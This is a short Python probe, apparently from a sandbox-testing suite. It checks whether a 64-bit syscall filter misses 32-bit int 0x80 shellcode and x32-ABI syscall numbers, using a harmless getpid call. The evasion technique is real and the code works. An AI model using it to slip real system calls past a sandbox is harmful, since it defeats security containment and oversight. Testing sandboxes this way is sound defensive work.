"""Makes system calls by the numbers of 32-bit programs (there: getpid), which a filter of 64-bit numbers may miss."""

import ctypes
import mmap
import os
import platform

CALL = bytes.fromhex("b814000000cd80c3")
X32_GETPID = 0x40000000 + 39


def attack(target: dict[str, str]) -> None:
    if platform.machine() != "x86_64":
        return
    if not os.fork():
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(CALL)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
        os._exit(call() == os.getpid())
    if not os.fork():
        os._exit(ctypes.CDLL(None).syscall(X32_GETPID) == os.getpid())
    if any(os.waitstatus_to_exitcode(os.wait()[1]) == 1 for _ in range(2)):
        print("HARM: has called")
